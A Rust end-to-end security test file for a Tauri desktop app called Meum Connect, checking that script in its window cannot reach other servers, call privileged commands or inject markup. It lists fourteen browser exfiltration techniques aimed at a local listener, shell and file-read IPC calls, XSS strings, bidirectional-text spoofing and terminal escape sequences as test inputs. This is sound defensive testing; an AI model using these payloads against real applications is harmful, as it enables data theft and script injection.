//! Code of an attacker's in the page, in the real window: it has what a merchant types, so it wants to send it away,
//! to call more than the page may, and to act through intents with values that no page of ours would send.

use crate::way;
use connect_e2e::{App, Outcome, Profile, Trouble};
use serde_json::{Value, json};
use std::io::Read;
use std::net::TcpListener;

/// Ways by which a page can ask another server: `arguments[0]` is its address.
const WAYS_OUT: [&str; 14] = [
    "fetch(arguments[0], {mode: 'no-cors', method: 'POST', body: 'planted'}).catch(() => {});",
    "const asked = new XMLHttpRequest(); asked.open('POST', arguments[0]); asked.send('planted');",
    "navigator.sendBeacon(arguments[0], 'planted');",
    "new WebSocket(arguments[0].replace('http', 'ws'));",
    "new EventSource(arguments[0]);",
    "new Image().src = arguments[0];",
    "import(arguments[0]).catch(() => {});",
    "document.head.appendChild(Object.assign(document.createElement('script'), {src: arguments[0]}));",
    "document.head.appendChild(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: arguments[0]}));",
    "document.head.appendChild(Object.assign(document.createElement('link'), {rel: 'prefetch', href: arguments[0]}));",
    "document.body.appendChild(Object.assign(document.createElement('video'), {src: arguments[0]}));",
    "document.body.appendChild(Object.assign(document.createElement('object'), {data: arguments[0]}));",
    "document.body.style.backgroundImage = `url(${arguments[0]})`;",
    "new Worker(arguments[0]);",
];

#[allow(clippy::needless_pass_by_value, reason = "it is what `map_err` gives")]
fn refused(refusal: std::io::Error) -> Trouble {
    Trouble::new(refusal.to_string())
}

#[tokio::test]
async fn code_in_the_page_sends_nothing_to_another_server() -> Outcome {
    let listener = TcpListener::bind("127.0.0.1:0").map_err(refused)?;
    listener.set_nonblocking(true).map_err(refused)?;
    let elsewhere = format!("http://{}/?planted", listener.local_addr().map_err(refused)?);
    let profile = Profile::new()?;
    let app = App::launch(&profile).await?;
    app.see("Meum Connect").await?;
    for way in WAYS_OUT {
        let tried = format!("try {{ {way} }} catch {{}}");
        app.script(&tried, vec![elsewhere.clone().into()]).await?;
        app.see("Meum Connect").await?;
    }
    app.close().await?;
    while let Ok((mut connection, _)) = listener.accept() {
        let mut asked = String::new();
        let read = connection.read_to_string(&mut asked);
        if !asked.is_empty() {
            return Err(Trouble::new(format!("another server was asked ({read:?}): {asked}")));
        }
    }
    Ok(())
}

/// Calls a command as the page does. Gives back what it answered, or the refusal.
async fn call(app: &App<'_>, command: &str, body: Value) -> Outcome<Result<Value, String>> {
    const CALL: &str = "
        const done = arguments[2];
        window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1])
            .then((answer) => done({ answer: answer ?? null }), (refusal) => done({ refusal: String(refusal) }));";
    let answer = app.script_later(CALL, vec![command.into(), body]).await?;
    Ok(match answer.get("refusal").and_then(Value::as_str) {
        Some(refusal) => Err(refusal.to_owned()),
        None => Ok(answer.get("answer").cloned().unwrap_or_default()),
    })
}

#[tokio::test]
async fn code_in_the_page_calls_two_commands_and_no_other() -> Outcome {
    let profile = Profile::new()?;
    let app = App::launch(&profile).await?;
    app.see("Meum Connect").await?;
    for (command, body) in [
        ("plugin:opener|open_url", json!({ "url": "https://corner-shop.example" })),
        ("plugin:opener|open_path", json!({ "path": "/bin/true" })),
        ("plugin:opener|reveal_item_in_dir", json!({ "paths": ["/etc"] })),
        ("plugin:deep-link|get_current", json!({})),
        ("plugin:deep-link|register", json!({ "protocol": "meum-connect" })),
        ("plugin:window-state|save_window_state", json!({ "flags": 1 })),
        ("plugin:event|emit", json!({ "event": "view", "payload": {} })),
        ("plugin:event|emit_to", json!({ "target": { "kind": "Any" }, "event": "view", "payload": {} })),
        ("plugin:window|create", json!({ "options": { "label": "another" } })),
        ("plugin:window|set_title", json!({ "label": "main", "value": "planted" })),
        ("plugin:window|close", json!({ "label": "main" })),
        ("plugin:webview|create_webview_window", json!({ "options": { "label": "another", "url": "index.html" } })),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 21 })),
        ("plugin:app|version", json!({})),
        ("plugin:menu|new", json!({ "kind": "Menu", "handler": null })),
        ("plugin:tray|new", json!({ "options": {} })),
        ("plugin:resources|close", json!({ "rid": 0 })),
        ("plugin:image|from_path", json!({ "path": "/etc/hostname" })),
        ("plugin:shell|execute", json!({ "program": "true", "args": [] })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/hostname" })),
        ("run", json!({})),
    ] {
        if let Ok(answer) = call(&app, command, body).await? {
            return Err(Trouble::new(format!("{command} was answered: {answer}")));
        }
    }
    // The call itself works: what may be called is answered.
    let view = call(&app, "snapshot", json!({})).await?.map_err(Trouble::new)?;
    if view.get("screen").is_none() {
        return Err(Trouble::new(format!("the view is none: {view}")));
    }
    if app.title().await?.contains("planted") {
        return Err(Trouble::new("the page has another title"));
    }
    app.close().await
}

/// Texts that harm whoever draws them as markup, prints them on a terminal, or copies them without end.
fn hostile_texts() -> Vec<String> {
    let mark = "<img src=x onerror=\"window.planted=1\"><script>window.planted=1</script><b id=planted>";
    let turned = "corner-shop.\u{202e}elpmaxe\u{2066}\u{200f}";
    let escapes = "\u{1b}]0;planted\u{7}\u{1b}[2J\u{9b}31m\r\n\0";
    let long = |piece: &str| piece.repeat((1 << 20) / piece.len());
    vec![
        mark.to_owned(),
        turned.to_owned(),
        escapes.to_owned(),
        long("a"),
        long(mark),
        "javascript:window.planted=1".into(),
    ]
}

/// Every intent that takes words, with these.
fn intents(text: &str) -> Vec<Value> {
    vec![
        json!({ "kind": "searchShops", "text": text }),
        json!({ "kind": "typeAddress", "text": text }),
        json!({ "kind": "checkAddress", "text": text }),
        json!({ "kind": "enterExtraPassword", "user": text, "password": text }),
        json!({ "kind": "copyNote", "text": text }),
        json!({ "kind": "checkKeys", "key": text, "secret": text }),
        json!({ "kind": "holdKeys", "key": text, "secret": text }),
        json!({ "kind": "holdMeumKey", "key": text }),
        json!({ "kind": "keepMeumKey", "key": text }),
        json!({ "kind": "openShop", "id": text }),
        json!({ "kind": "disconnect", "typed": text }),
        json!({ "kind": "open", "link": text }),
        json!({ "kind": "say", "text": text }),
        json!({ "kind": text }),
    ]
}

/// Sends them all. Each is taken or refused; a refusal repeats nothing of it.
async fn send(app: &App<'_>, text: &str) -> Outcome {
    for intent in intents(text) {
        let kind = intent.get("kind").cloned().unwrap_or_default();
        if let Err(refusal) = call(app, "dispatch", json!({ "intent": intent })).await?
            && (refusal.len() > 200 || refusal.contains("planted"))
        {
            return Err(Trouble::new(format!("the refusal of {kind:.40} repeats what was sent: {refusal:.200}")));
        }
    }
    Ok(())
}

/// What was sent is text at most: nothing of it became a part of the page, ran, or stands unclean in the view.
async fn nothing_came_of_it(app: &App<'_>) -> Outcome {
    const PLANTED: &str = "return window.planted === 1 || document.getElementById('planted') !== null
        || document.title.includes('planted') || [...document.querySelectorAll('main img, main script')].length > 0;";
    if app.script(PLANTED, Vec::new()).await? != false {
        return Err(Trouble::new("what was sent became a part of the page"));
    }
    let view = app.view().await?.to_string();
    let unclean = ["\\u001b", "\\u0000", "\\u0007", "\u{9b}", "\u{202e}", "\u{2066}", "\u{200f}"];
    match unclean.iter().find(|piece| view.contains(**piece)) {
        Some(piece) => Err(Trouble::new(format!("{:?} stands in the view", piece.escape_unicode().to_string()))),
        None if view.len() > 200_000 => Err(Trouble::new(format!("the view has {} bytes", view.len()))),
        None => Ok(()),
    }
}

#[tokio::test]
async fn hostile_words_in_every_intent_come_to_nothing() -> Outcome {
    let profile = Profile::new()?;
    let app = App::launch(&profile).await?;
    app.see("Meum Connect").await?;
    for text in hostile_texts() {
        send(&app, &text).await?;
        nothing_came_of_it(&app).await?;
    }
    app.close().await?;
    // On the panel as well, where a shop is connected: it stays connected, under its own name.
    let profile = Profile::new()?;
    let app = App::launch(&profile).await?;
    way::to_panel(&app).await?;
    for text in hostile_texts() {
        send(&app, &text).await?;
        nothing_came_of_it(&app).await?;
    }
    app.see("Shoppers can pay").await?;
    app.close().await
}
